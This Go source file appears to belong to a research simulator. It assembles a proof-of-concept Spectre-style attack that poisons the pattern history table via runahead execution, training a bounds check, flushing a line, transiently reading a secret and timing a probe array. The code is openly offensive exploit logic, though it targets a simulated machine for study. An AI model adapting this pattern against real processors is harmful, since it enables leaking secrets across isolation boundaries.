package attack

import (
	"specrun/internal/asm"
	"specrun/internal/isa"
)

// buildPHT assembles the Fig. 8 PoC.
//
// The attacker runs T+1 trips through one loop whose body is identical on
// every trip (branchless selection of the victim argument and of the flush
// target), so the global branch history at the victim's bounds check is the
// same during training and attack — the PHT entry poisoned by training is
// exactly the one consulted by the attack call.
//
// Trips i = T .. 1 (training): x is in bounds, D stays cached, the victim's
// branch retires not-taken and trains the predictor toward the body.
// Trip i = 0 (attack): x = &secret - &array1, D is flushed; the victim's
// bound load misses to memory, reaches the ROB head and triggers runahead
// execution; the bounds check has an INV source and never resolves (§2.1),
// so the machine follows the trained prediction into the body and the
// transient secret access transmits through array2.  Afterwards the probe
// loop times every array2 slot (Fig. 8 lines 17-22).
func buildPHT(p Params) (*asm.Program, Layout, error) {
	b := asm.NewBuilder(0x1000, 0x100000)
	l := layoutData(b, p)
	prologue(b, l)

	b.Movi(rI, int64(p.TrainingRounds))
	b.Label("iter")
	lastIterMask(b)
	selectByMask(b, rArg, rBadX, rInX)   // x = last ? malicious : in-bounds
	selectByMask(b, rFlushA, rD, rDummy) // flush target = last ? D : dummy
	flushArray2(b, p, "flush_probe")     // step 4 precondition, every trip
	b.Clflush(rFlushA, 0)                // step 2: trigger runahead (last trip)
	b.Fence()
	b.Call("victim")
	waitLoop(b, "wait", 600) // Fig. 8 line 16: wait out the episode
	b.Addi(rI, rI, -1)
	b.Bge(rI, isa.R(0), "iter")

	probeLoop(b, p, "probe")
	b.Halt()

	// victim_function (Fig. 8 lines 1-7).
	b.Label("victim")
	b.Ld(rBound, rD, 0)          // array1_size = f(D): the stalling load
	b.Bge(rArg, rBound, "v_end") // the poisoned bounds check
	transmit(b, p)
	b.Label("v_end")
	b.Ret()

	prog, err := b.Build()
	if err != nil {
		return nil, Layout{}, err
	}
	return prog, l, nil
}
